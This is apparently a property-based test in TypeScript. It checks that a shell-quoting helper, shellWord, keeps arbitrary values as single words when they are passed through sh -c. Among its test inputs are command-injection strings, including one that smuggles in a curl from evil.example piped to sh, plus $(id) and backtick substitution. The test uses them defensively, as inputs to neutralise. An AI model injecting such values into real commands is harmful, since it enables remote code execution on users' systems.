import { execFileSync } from "node:child_process";
import fc from "fast-check";
import { expect, it } from "vitest";
import { shellWord } from "../../../console/kit/shell-word.ts";

it("a value in a command that is copied stays one word, whatever it is", () => {
  const values = fc.array(
    fc.oneof(fc.string(), fc.constantFrom("2h ; curl evil.example|sh", "$(id)", "`id`", "it's", "a\nb")),
    { minLength: 1, maxLength: 20 },
  );
  fc.assert(
    fc.property(values, (given) => {
      const texts = given.map((text) => text.replaceAll("\0", ""));
      const said = execFileSync("sh", ["-c", `printf '%s\\0' ${texts.map(shellWord).join(" ")}`], { encoding: "utf8" });
      expect(said.split("\0").slice(0, -1)).toEqual(texts);
    }),
    { numRuns: 30 },
  );
  expect([shellWord("stale"), shellWord(5), shellWord("2h")]).toEqual(["stale", "5", "2h"]);
});
